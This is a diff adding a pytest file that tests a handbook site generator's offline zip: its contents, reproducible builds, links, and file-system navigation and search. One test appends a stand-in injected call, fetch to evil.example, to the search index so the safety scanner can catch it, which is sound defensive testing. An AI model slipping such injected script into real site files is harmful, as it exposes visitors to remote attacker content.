@@ -1,0 +1,133 @@
+"""The offline copy: site/handbook-offline.zip unpacked and opened from the file system."""
+
+from __future__ import annotations
+
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from generator.build import BuildSettings, build
+from generator.catalog.model import Catalog
+from generator.outputs import OFFLINE_ZIP
+from generator.resources import theme_overrides
+from generator.safety.scan import scan_output
+from generator.validate.check import check_repository
+from tests.conftest import copy_repository
+from tests.website.test_browser import ARGS, CHROMIUM, search_term
+
+EPOCH = "1767225600"
+
+
+def build_zip(root: Path, site: Path) -> Path:
+    catalog = check_repository(root).catalog
+    assert catalog is not None
+    build(catalog, BuildSettings(root=root, site_dir=site, pdf=False, offline=True))
+    return site / OFFLINE_ZIP
+
+
+@pytest.fixture(scope="module")
+def offline(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Catalog, Path]]:
+    """(repository, catalog, unpacked offline folder) of the default catalog."""
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setenv("SOURCE_DATE_EPOCH", EPOCH)
+        root = copy_repository(tmp_path_factory.mktemp("offline") / "repo")
+        archive = build_zip(root, root / "site")
+        with zipfile.ZipFile(archive) as z:
+            z.extractall(root / "unpacked")
+        catalog = check_repository(root).catalog
+        assert catalog is not None
+        yield root, catalog, root / "unpacked" / "handbook"
+
+
+def test_zip_holds_every_page_as_a_file_and_the_inlined_search_index(
+    offline: tuple[Path, Catalog, Path],
+) -> None:
+    root, catalog, folder = offline
+    with zipfile.ZipFile(root / "site" / OFFLINE_ZIP) as z:
+        names = z.namelist()
+        assert names == sorted(names)
+        assert {i.date_time for i in z.infolist()} == {(2026, 1, 1, 0, 0, 0)}
+        assert all(n.startswith("handbook/") for n in names)
+    files = {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}
+    assert {n.removeprefix("handbook/") for n in names} == files
+    assert {"index.html", "search/search_index.js", "tags.html", "worksheets.html"} <= files
+    assert all(f"goals/{g.audience}/{g.id}.html" in files for g in catalog.goals)
+    index = (folder / "search/search_index.js").read_text()
+    assert index.startswith("var __index = {")
+    home = (folder / "index.html").read_text()
+    assert "unpkg.com" not in home and "iframe-worker/shim.js" in home
+
+
+def test_the_same_input_gives_the_same_zip(
+    offline: tuple[Path, Catalog, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    root, _, _ = offline
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)
+    again = build_zip(root, tmp_path / "site")
+    assert again.read_bytes() == (root / "site" / OFFLINE_ZIP).read_bytes()
+
+
+def test_the_safety_scan_passes_the_offline_copy_and_refuses_a_tampered_index(
+    offline: tuple[Path, Catalog, Path], tmp_path: Path
+) -> None:
+    root, _, folder = offline
+    themes = [theme_overrides(root)]
+    assert scan_output(folder, theme_dirs=themes) == []
+    index = folder / "search/search_index.js"
+    original = index.read_bytes()
+    try:
+        index.write_bytes(original + b";fetch('https://evil.example/')")
+        assert [f.file for f in scan_output(folder, theme_dirs=themes)] == [
+            "search/search_index.js"
+        ]
+    finally:
+        index.write_bytes(original)
+
+
+def test_the_site_links_the_book_and_the_zip(offline: tuple[Path, Catalog, Path]) -> None:
+    root, catalog, _ = offline
+    home = (root / "site/index.html").read_text()
+    assert f'href="{OFFLINE_ZIP}"' in home
+    assert 'href="book/handbook-en-a4.pdf"' in home
+    assert catalog.ui("book.heading") in home
+    worksheets = (root / "site/worksheets/index.html").read_text()
+    assert f'href="../{OFFLINE_ZIP}"' in worksheets
+
+
+@pytest.mark.browser
+def test_navigation_and_search_work_from_the_file_system(
+    offline: tuple[Path, Catalog, Path],
+) -> None:
+    from playwright.sync_api import sync_playwright
+
+    _, catalog, folder = offline
+    if not Path(CHROMIUM).exists():
+        pytest.fail("Debian's chromium is missing: run `make system-deps`")
+    goal = catalog.goals_for("mentee")[0]
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
+        try:
+            page = browser.new_page()
+            errors: list[str] = []
+            remote: list[str] = []
+            page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
+            page.on("pageerror", lambda e: errors.append(str(e)))
+            page.on(
+                "request", lambda r: None if r.url.startswith("file:") else remote.append(r.url)
+            )
+            page.goto((folder / "index.html").as_uri())
+            page.get_by_role("link", name=catalog.ui("site.audience.mentee.title")).first.click()
+            page.locator("article").get_by_role("link", name=goal.title).first.click()
+            page.wait_for_load_state("load")
+            assert page.url.endswith(f"goals/mentee/{goal.id}.html")
+            assert page.locator("h1").first.inner_text().rstrip("¶") == goal.title
+            word, found = search_term(catalog)
+            page.keyboard.press("s")  # Material's shortcut focuses the search box
+            page.keyboard.type(word, delay=20)
+            hit = page.locator(".md-search-result__item", has_text=found.title).first
+            hit.wait_for(timeout=15000)  # the goal's page among the results
+            assert errors == [] and remote == []
+        finally:
+            browser.close()
